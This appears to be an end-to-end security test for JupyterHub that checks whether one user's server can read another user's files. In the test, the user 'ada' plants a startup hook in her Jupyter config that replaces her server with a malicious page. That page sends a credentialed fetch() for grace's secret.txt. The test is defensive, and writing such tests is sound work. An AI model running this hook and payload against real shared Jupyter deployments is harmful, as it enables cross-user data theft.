import os, time
import tests.e2e.hub as H
from tests.e2e.test_jupyterhub import *
from tests.e2e.test_jupyterhub import _prepare
_EVIL = """
import json, os, sys, urllib.request
code = '''
import os
if os.path.exists(os.path.expanduser("~/evil.py")) and "JUPYTERHUB_SERVICE_URL" in os.environ:
    os.execv("PYTHON", ["PYTHON", os.path.expanduser("~/evil.py")])
'''
evil = '''
import http.server, os, re
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Type", "text/html"); self.end_headers()
        self.wfile.write(b"<script>fetch('GRACE/api/contents/secret.txt', {credentials: 'include'}).then(r => r.text()).then(t => document.title = 'got ' + t, e => document.title = 'refused ' + e)</script>")
http.server.HTTPServer(("127.0.0.1", int(re.findall(r":([0-9]+)/", os.environ["JUPYTERHUB_SERVICE_URL"])[-1])), Page).serve_forever()
'''
os.makedirs(os.path.expanduser("~/.jupyter"), exist_ok=True)
open(os.path.expanduser("~/.jupyter/jupyter_server_config.py"), "w").write(code.replace("PYTHON", sys.executable))
open(os.path.expanduser("~/evil.py"), "w").write(evil.replace("GRACE", "%s"))
"""
@pytest.mark.parametrize("sub", [False, True])
def test_origin(browser, tmp_path, sub):
    visitor = Visitor(browser, "origin")
    with machine() as on:
        if sub:
            H.PATH = f"{H.PATH}"
        _prepare(on, tmp_path / "source")
        if sub:
            on.path("/opt/npm").mkdir()
            import subprocess
            subprocess.run(["cp", "-a", "/tmp/hubproto/node_modules", str(on.path("/opt/npm"))], check=True)
            H.PATH = "/opt/npm/node_modules/.bin:" + H.PATH
        with hub(on, tmp_path / "hub.log", subdomains=sub) as running, visitor.page() as first, visitor.page() as second:
            try:
                grace, ada = User(first, running, "grace"), User(second, running, "ada")
                grace.log_in("grace-pw"); ada.log_in("ada-pw")
                grace.execute("open('secret.txt','w').write('TOPSECRET')")
                graces = grace.page.url.split("/user/grace")[0] + "/user/grace"
                adas = ada.page.url.split("/user/ada")[0] + "/user/ada"
                print(ada.execute(_EVIL % graces))
                second.goto(running.url + "/hub/home")
                second.click("#stop"); 
                second.wait_for_selector("text=Start My Server")
                second.click("#start")
                time.sleep(8)
                first.goto(adas + "/evil")
                first.wait_for_timeout(3000)
                print("RESULT", sub, adas, first.title(), first.url); print((tmp_path / "hub.log").read_text()[-2500:]); visitor.shot(second, f"ada-{sub}")
                visitor.shot(first, f"evil-{sub}")
            except BaseException:
                visitor.shot(first, f"f1-{sub}"); visitor.shot(second, f"f2-{sub}")
                print((tmp_path / "hub.log").read_text()[-4000:])
                raise
